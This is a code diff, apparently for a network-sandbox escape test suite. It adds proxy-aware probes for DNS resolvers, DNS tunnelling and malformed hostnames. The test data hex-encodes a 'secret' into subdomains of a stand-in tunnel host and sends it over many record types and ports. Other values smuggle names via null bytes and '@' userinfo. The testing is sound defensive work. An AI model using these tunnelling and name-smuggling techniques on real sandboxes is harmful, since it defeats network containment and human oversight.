@@ -1,4 +1,5 @@
 import { judged } from "../security/attack.ts";
+import type { NetworkSandbox } from "./ground.ts";
 import { addresses } from "./plan.ts";
 import {
   apiAddress,
@@ -6,39 +7,45 @@ import {
   type NetworkField,
   type NetworkRow,
   otherAddress,
-  outcomeWord,
   sharedAddress,
   strays,
+  talked,
+  tunnelsOf,
 } from "./row.ts";
 
-const request = "GET / HTTP/1.0\r\n\r\n";
 const transports = ["udp", "tcp"] as const;
+
+/** Who asks, and how: a proxy carries no datagrams. */
+const askersOf = (field: NetworkField, sandbox: NetworkSandbox) => [
+  [sandbox.probe, "udp"] as const,
+  ...tunnelsOf(field, sandbox).map((probe) => [probe, "tcp"] as const),
+];
 
 /** Dials each from the allowlisted sandbox; whatever leaves the host is a way out. */
 const dialled = (field: NetworkField, targets: readonly string[]) =>
-  judgedByWire(field, async () => {
-    const said: string[] = [];
-    for (const target of targets) said.push(outcomeWord(await field.narrow.probe.talk(target, request)));
-    return said;
-  });
+  judgedByWire(field, () => talked(field, field.narrow, targets));
 
 export const nameRows: readonly NetworkRow[] = [
   {
     id: "net-own-resolver",
     title: "asks a resolver of its own choice",
-    tried: "UDP and TCP port 53 of 8.8.8.8, 1.1.1.1, the operator's resolver and a private address",
-    control: "port 53 of every address is answered by the sandbox's own resolver",
+    tried:
+      "UDP and TCP port 53 of 8.8.8.8, 1.1.1.1, the operator's resolver and a private address; by a proxy under an allowlist, as without one TCP to a public address is allowed on any port",
+    control: "port 53 of every address is answered by the sandbox's own resolver; beside a proxy there is no route",
     attempt: async (field) => {
       await field.internet.forget();
       const answers: string[] = [];
-      for (const transport of transports)
+      const allowlisted = askersOf(field, field.narrow).slice(transports.length);
+      for (const [probe, transport] of [...transports.map((one) => [field.open.probe, one] as const), ...allowlisted])
         for (const server of [...addresses.publicResolvers, addresses.resolver4, "10.99.0.7"]) {
-          const told = await field.open.probe.ask(transport, `${server}:53`, "api.example.com", "A");
+          const told = await probe.ask(transport, `${server}:53`, "api.example.com", "A");
           answers.push(...(told.answers.length > 0 ? told.answers.map(({ data }) => data) : [told.code]));
         }
       const records = await field.internet.records();
       const asked = records.queries.filter(({ at }) => at !== addresses.resolver4);
-      const foreign = answers.filter((answer) => !/^198\.1[89]\./.test(answer));
+      const own =
+        field.level === "transparent" ? /^198\.1[89]\./ : /^(no route|network is unreachable|connection refused|403 )/;
+      const foreign = answers.filter((answer) => !own.test(answer));
       const found = [
         ...strays(records).map(({ destination }) => `packet to ${destination}`),
         ...asked.map(({ at, name }) => `${at} was asked for ${name}`),
@@ -57,14 +64,17 @@ export const nameRows: readonly NetworkRow[] = [
       await field.internet.forget();
       const said: string[] = [];
       const data = Buffer.from("a secret carried out").toString("hex");
-      for (const transport of transports)
+      for (const [probe, transport] of askersOf(field, field.narrow))
         for (const server of ["198.18.0.2", "8.8.8.8"])
           for (const type of ["A", "AAAA", "TXT", "CNAME", "MX", "HTTPS", "TYPE10"]) {
-            const told = await field.narrow.probe.ask(transport, `${server}:53`, `${data}.tunnel.example.net`, type);
+            const told = await probe.ask(transport, `${server}:53`, `${data}.tunnel.example.net`, type);
             said.push(told.code);
             for (const answer of told.answers) said.push(answer.data);
           }
       await field.narrow.probe.ask("udp", "198.18.0.2:53", "api.example.com", "TXT");
+      said.push(
+        ...(await talked(field, field.narrow, [`${data}.tunnel.example.net:443`, `${data}.tunnel.example.net:80`])),
+      );
       const { queries } = await field.internet.records();
       const found = queries.filter(({ name, type }) => name.includes(data) || type === "TXT");
       return judged(
@@ -94,6 +104,18 @@ export const nameRows: readonly NetworkRow[] = [
       const odd = ["api.example.com\0.evil.example.net", "api..example.com", " api.example.com"];
       const queried = async () => {
         for (const name of odd) await field.narrow.probe.ask("udp", "198.18.0.2:53", name, "A");
+        // A proxy is told names as they are written.
+        const written = [
+          "api.example.com%00.evil.example.net",
+          "api..example.com",
+          "api.example.com@evilwild.example.com",
+        ];
+        if (field.level === "proxy")
+          await talked(
+            field,
+            field.narrow,
+            written.map((name) => `${name}:443`),
+          );
       };
       const wire = await dialled(
         field,
@@ -156,7 +178,7 @@ export const nameRows: readonly NetworkRow[] = [
         async () => {
           const said: string[] = [];
           for (const name of ["forged-id", "forged-name", "beside", "victim"])
-            said.push(outcomeWord(await field.open.probe.talk(`${name}.example.net:80`, request)));
+            said.push(...(await talked(field, field.open, [`${name}.example.net:80`])));
           if (!said.includes("connected")) throw new Error(`no name was reached at all: ${said.join(", ")}`);
           return said;
         },
